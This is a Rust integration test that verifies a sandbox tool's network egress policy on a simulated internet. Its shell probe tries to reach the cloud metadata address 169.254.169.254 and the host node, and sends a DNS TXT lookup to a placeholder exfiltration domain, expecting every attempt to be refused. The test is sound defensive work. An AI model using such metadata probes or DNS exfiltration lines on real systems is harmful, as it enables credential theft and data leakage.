//! `skillbox run` of a skill whose policy allows egress, on the fake
//! internet: `skillbox run` itself runs in the fake "node" namespace (as it
//! would on a node), the sandbox gets its own namespace behind the node's
//! enforcement, and after the run nothing of it is left.

mod common;

use std::path::Path;
use std::time::Duration;

use common::fake_internet::{self, netns_list, FakeInternet, DNS_SERVER, NODE_ADDRESS, NODE_UPLINK};
use common::{busybox_rootfs, require_sandbox_prerequisites, run_with_watchdog, Skill, SKILLBOX};
use skillbox_egress::netns::{Forwarding, NetnsName, SystemRunner};

/// Resolves through the proxy, then tries each destination; every line
/// says what happened.
const PROBE: &str = r#"exec 2>&1
fetch() { printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 3 "$1" "$2" 2>/dev/null | tail -1 | grep -q fake-internet && echo "$3: reached" || echo "$3: refused"; }
addr=$(nslookup allowed.example 2>/dev/null | awk '/^Address: 203/ {print $2}')
echo "allowed.example resolves to $addr"
fetch "$addr" 8080 "allowed name, allowed port"
fetch 203.0.113.10 8081 "allowed address, other port"
fetch 203.0.113.11 8080 "denied address inside the allowed cidr"
fetch 198.51.100.20 8080 "address no allowed name resolved to"
fetch 169.254.169.254 80 "cloud metadata"
fetch 198.18.0.2 8080 "the node's own address"
nslookup other.example >/dev/null 2>&1 && echo "other.example: resolved" || echo "other.example: not resolved"
nslookup -type=TXT k9q2x7f3.exfil.example >/dev/null 2>&1 && echo "exfil: resolved" || echo "exfil: not resolved"
"#;

const POLICY: &str = "  resources: { cpus: 0.5, memory: 128Mi, pids: 16, timeout: 60s }
  network:
    allow:
      - { domain: allowed.example, ports: [8080] }
      - { cidr: 203.0.113.0/24, ports: [8080] }
      - { cidr: 0.0.0.0/0, ports: [80] }
    deny:
      - { cidr: 203.0.113.11/32 }
";

/// An HTTP server answering `fake-internet …`, killed on drop.
struct Server(std::process::Child);

impl Server {
    /// Serves on `address:port` from `python` (a `python3` entering the
    /// namespace at `netns`), once it accepts connections there.
    fn start(mut python: std::process::Command, netns: &Path, address: &str, port: u16) -> Server {
        let root = tempfile::tempdir().unwrap().keep();
        std::fs::write(root.join("index.html"), format!("fake-internet {address}\n")).unwrap();
        let child = python
            .args(["-m", "http.server", "--bind", address, &port.to_string()])
            .current_dir(&root)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while !fake_internet::can_connect_from(netns, address.parse().unwrap(), port)
            && std::time::Instant::now() < deadline
        {
            std::thread::sleep(Duration::from_millis(50));
        }
        Server(child)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn skillbox_run_gives_a_skill_exactly_the_egress_its_policy_declares() {
    require_sandbox_prerequisites();
    let fake = FakeInternet::start("run");
    let node = NetnsName::new(&fake.node).unwrap();
    // The node forwards from its uplink (sandboxes get their own veth's).
    let uplink = Forwarding::enable(Box::new(SystemRunner), Some(node.clone()), NODE_UPLINK).unwrap();
    // Servers where the policy must not let the skill in: without the
    // always-denied ranges and the node rules, `0.0.0.0/0` port 80 would
    // reach the metadata service and the node's address would answer.
    fake_internet::must(&[
        "ip",
        "-n",
        &fake.internet,
        "addr",
        "add",
        "169.254.169.254/32",
        "dev",
        "lo",
    ]);
    let internet = Path::new("/var/run/netns").join(&fake.internet);
    let _metadata = Server::start(fake.internet_command("python3"), &internet, "169.254.169.254", 80);
    let _node_server = Server::start(
        fake.node_command("python3"),
        &fake.node_path(),
        NODE_ADDRESS,
        8080,
    );
    let skill = Skill::sh("egress-run", POLICY, PROBE);
    let work = tempfile::tempdir().unwrap();
    let (report, events) = (work.path().join("report.json"), work.path().join("egress.jsonl"));
    let mut command = fake.node_command(SKILLBOX);
    command
        .arg("run")
        .arg("--base-rootfs")
        .arg(busybox_rootfs())
        .args(["--dns-upstream", DNS_SERVER])
        .arg("--egress-log")
        .arg(&events)
        .arg("--report")
        .arg(&report)
        .arg(skill.path());
    let output = run_with_watchdog(command, Duration::from_secs(90));
    assert_eq!(output.code, 0, "{}", output.describe());
    let text = &output.stdout;
    for line in [
        "allowed.example resolves to 203.0.113.10",
        "allowed name, allowed port: reached",
        "allowed address, other port: refused",
        "denied address inside the allowed cidr: refused",
        "address no allowed name resolved to: refused",
        "cloud metadata: refused",
        "the node's own address: refused",
        "other.example: not resolved",
        "exfil: not resolved",
    ] {
        assert!(text.contains(line), "missing {line:?}:\n{}", output.describe());
    }

    let asked = fake.dns_log();
    assert!(
        asked.contains(&format!("query[A] allowed.example from {NODE_ADDRESS}")),
        "{asked}"
    );
    assert!(
        !asked.contains("other.example") && !asked.contains("k9q2x7f3"),
        "a refused name reached upstream:\n{asked}"
    );
    let logged = std::fs::read_to_string(&events).unwrap();
    assert!(
        logged.contains("\"allowed.example") && logged.contains("k9q2x7f3") && logged.contains("\"refused\""),
        "{logged}"
    );
    let report: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert_eq!(report["egress_log"], events.display().to_string());

    // Nothing of the sandbox's network is left in the node.
    let execution = report["execution_id"].as_str().unwrap();
    let short = &execution[execution.len() - 16..];
    assert!(
        !netns_list().iter().any(|name| name.contains(short)),
        "namespace left behind: {:?}",
        netns_list()
    );
    let ruleset = fake_internet::must(&["ip", "netns", "exec", node.as_str(), "nft", "list", "ruleset"]);
    assert!(
        !ruleset.contains("skillbox-") && !ruleset.contains("skillbox_nat"),
        "nftables left behind:\n{ruleset}"
    );
    let links = fake_internet::must(&["ip", "-n", node.as_str(), "-o", "link"]);
    assert!(!links.contains("sbxv"), "veth left behind:\n{links}");
    drop(uplink);
}
